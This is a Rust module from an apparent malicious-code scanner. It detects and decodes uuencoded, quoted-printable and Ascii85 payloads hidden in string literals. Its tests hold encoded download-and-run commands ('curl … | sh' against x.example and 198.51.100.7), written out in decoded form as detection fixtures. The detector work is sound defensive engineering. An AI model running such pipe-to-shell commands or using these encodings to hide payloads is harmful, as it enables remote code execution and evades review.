//! Round 31 (covert31): text encodings beside base64 and hex that hide a
//! payload in a literal: uuencode, quoted-printable and Ascii85 (`<~ … ~>`).
//! Each has a linear span finder and a decoder; `deobf::scan_literals`
//! decodes what they find and reads it again like any other payload, so
//! `eval unpack('u', $t)` in Perl, `binascii.a2b_uu` in Python, Ruby's
//! `unpack('u')`, PHP's `convert_uudecode` and a shell `uudecode` heredoc
//! are one case: the encoded text itself.

/// The byte count a uuencoded data line declares, when `line` is one: a
/// length character (`!`..`M`: 1..45 bytes), then groups of four
/// characters from `` ` ``/space to `_` that hold those bytes (a line an
/// editor cut of its trailing spaces, or one with a checksum character,
/// is still one).
fn uu_line(line: &[u8]) -> Option<usize> {
    let (&c0, rest) = line.split_first()?;
    if !(0x21..=0x60).contains(&c0) {
        return None;
    }
    let n = usize::from((c0 - 0x20) & 0x3f);
    let want = n.div_ceil(3) * 4;
    let ok_len =
        rest.len() == want || rest.len() == want + 1 || rest.len() + 3 >= want && rest.len() < want;
    (n > 0 && ok_len && rest.iter().all(|b| (0x20..=0x60).contains(b))).then_some(n)
}

/// A line's candidate uu text: the line without its indentation, or the
/// inside of the quotes it is written between (`"M<WES…",`).
fn uu_candidate(line: &str) -> Option<(usize, &str)> {
    let t = line.trim_start();
    let off = line.len() - t.len();
    let t = t.trim_end_matches('\r');
    if uu_line(t.as_bytes()).is_some() {
        return Some((off, t));
    }
    let q = t.chars().next().filter(|c| matches!(c, '"' | '\''))?;
    let end = t.rfind(q).filter(|&e| e > 0)?;
    let inner = &t[1..end];
    uu_line(inner.as_bytes()).map(|_| (off + 1, inner))
}

/// Blocks of consecutive uuencoded data lines holding at least 24 bytes,
/// with a full 45-byte line among them (prose and code lines have lower
/// case letters or the wrong length, so they never join one).
pub fn uu_spans(text: &str) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    let mut start: Option<usize> = None;
    let (mut end, mut bytes, mut full) = (0usize, 0usize, false);
    let mut at = 0usize;
    let mut close = |start: &mut Option<usize>, end: usize, bytes: usize, full: bool| {
        if let Some(s) = start.take() {
            if bytes >= 24 && full {
                out.push((s, end));
            }
        }
    };
    for line in text.split('\n') {
        match uu_candidate(line) {
            Some((off, cand)) => {
                let n = uu_line(cand.as_bytes()).unwrap_or(0);
                if start.is_none() {
                    start = Some(at + off);
                    bytes = 0;
                    full = false;
                }
                bytes += n;
                full |= n == 45;
                end = at + off + cand.len();
            }
            None => close(&mut start, end, bytes, full),
        }
        at += line.len() + 1;
    }
    close(&mut start, end, bytes, full);
    out
}

/// Decodes uuencoded lines (indentation and quotes around a line are
/// dropped, as [`uu_spans`] found them); `None` when a line is not uu.
pub fn uu(s: &str) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(s.len() * 3 / 4);
    for line in s.lines().filter(|l| !l.trim().is_empty()) {
        let (_, cand) = uu_candidate(line)?;
        let b = cand.as_bytes();
        let n = uu_line(b)?;
        let v = |i: usize| b.get(i).map_or(0u8, |c| (c.wrapping_sub(0x20)) & 0x3f);
        let mut line_out = Vec::with_capacity(n + 2);
        let mut i = 1;
        while line_out.len() < n {
            let (a, b1, c, d) = (v(i), v(i + 1), v(i + 2), v(i + 3));
            line_out.push((a << 2) | (b1 >> 4));
            line_out.push((b1 << 4) | (c >> 2));
            line_out.push((c << 6) | d);
            i += 4;
        }
        line_out.truncate(n);
        out.extend(line_out);
    }
    (!out.is_empty()).then_some(out)
}

fn is_hex(b: u8) -> bool {
    b.is_ascii_hexdigit()
}

/// Runs of text without white space (a `=` line break continues one)
/// where `=XX` escapes are dense: at least four, one per twelve
/// characters. The run is cut to the inside of quotes around it.
pub fn qp_spans(text: &str) -> Vec<(usize, usize)> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i].is_ascii_whitespace() {
            i += 1;
            continue;
        }
        let start = i;
        let mut escapes = 0usize;
        while i < b.len() {
            if b[i] == b'=' && i + 2 < b.len() && is_hex(b[i + 1]) && is_hex(b[i + 2]) {
                escapes += 1;
                i += 3;
            } else if b[i] == b'=' && b.get(i + 1) == Some(&b'\n') {
                i += 2;
            } else if b[i] == b'=' && b.get(i + 1) == Some(&b'\r') && b.get(i + 2) == Some(&b'\n') {
                i += 3;
            } else if b[i].is_ascii_whitespace() {
                break;
            } else {
                i += 1;
            }
        }
        let (mut s, mut e) = (start, i);
        // Inside the first quote pair (`b"curl=20…"`, `'…'`).
        if let Some(q) = text[s..e].find(['"', '\'']) {
            let qc = b[s + q];
            if let Some(r) = text[s + q + 1..e].rfind(qc as char) {
                e = s + q + 1 + r;
                s = s + q + 1;
            }
        }
        if escapes >= 4 && escapes * 12 >= e - s {
            out.push((s, e));
        }
    }
    out
}

/// Decodes quoted-printable text: `=XX` is a byte, `=` at a line end is
/// a soft break; anything else is itself.
pub fn quoted_printable(s: &str) -> Option<Vec<u8>> {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'=' && i + 2 < b.len() && is_hex(b[i + 1]) && is_hex(b[i + 2]) {
            out.push(u8::from_str_radix(&s[i + 1..i + 3], 16).ok()?);
            i += 3;
        } else if b[i] == b'=' && matches!(b.get(i + 1), Some(b'\n' | b'\r')) {
            i += 1;
            while matches!(b.get(i), Some(b'\n' | b'\r')) {
                i += 1;
            }
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    (!out.is_empty()).then_some(out)
}

/// `<~ … ~>` runs (Adobe Ascii85, what Python's `a85encode(adobe=True)`
/// and PostScript write) of at least 20 characters.
pub fn a85_spans(text: &str) -> Vec<(usize, usize)> {
    let mut out = Vec::new();
    let mut from = 0;
    while let Some(s) = text[from..].find("<~").map(|i| from + i) {
        let Some(e) = text[s + 2..].find("~>").map(|i| s + 2 + i + 2) else {
            break;
        };
        if e - s >= 24 {
            out.push((s, e));
        }
        from = e;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn uuencoded_lines_decode_as_uuencode_writes_them() {
        // Python: binascii.b2a_uu(b"curl -fsSL https://x.example/i.sh | sh ; echo done").
        let line = "M8W5R;\"`M9G-33\"!H='1P<SHO+W@N97AA;7!L92]I+G-H('P@<V@@.R!E8VAO\n%(&1O;F4`\n";
        let d = uu(line).unwrap();
        assert_eq!(d, b"curl -fsSL https://x.example/i.sh | sh ; echo done");
        assert_eq!(uu_spans(line).len(), 1);
        // Prose, code and a short upper-case line are not uu blocks.
        for t in [
            "Run the script and report what it prints.\n",
            "MAX_RETRIES = 5\nM = 3\n",
            "%ABCDEFGH\n",
        ] {
            assert!(uu_spans(t).is_empty(), "{t}");
        }
    }

    #[test]
    fn quoted_printable_and_ascii85_spans_decode() {
        let t = "x = quopri.decodestring(b\"curl=20-s=20http=3A//198.51.100.7/a=7Csh\")";
        let spans = qp_spans(t);
        assert_eq!(spans.len(), 1, "{spans:?}");
        let (s, e) = spans[0];
        assert_eq!(
            quoted_printable(&t[s..e]).unwrap(),
            b"curl -s http://198.51.100.7/a|sh"
        );
        // A URL query or a config line with a few `=` is not QP.
        assert!(qp_spans("https://example.org/?a=12&b=34&c=56").is_empty());
        assert!(qp_spans("WIDTH=80 HEIGHT=24").is_empty());
        let a = "p = '<~@s)g.+F&9TBE@s)g.+F&9TBE~>'";
        assert_eq!(a85_spans(a).len(), 1);
    }
}
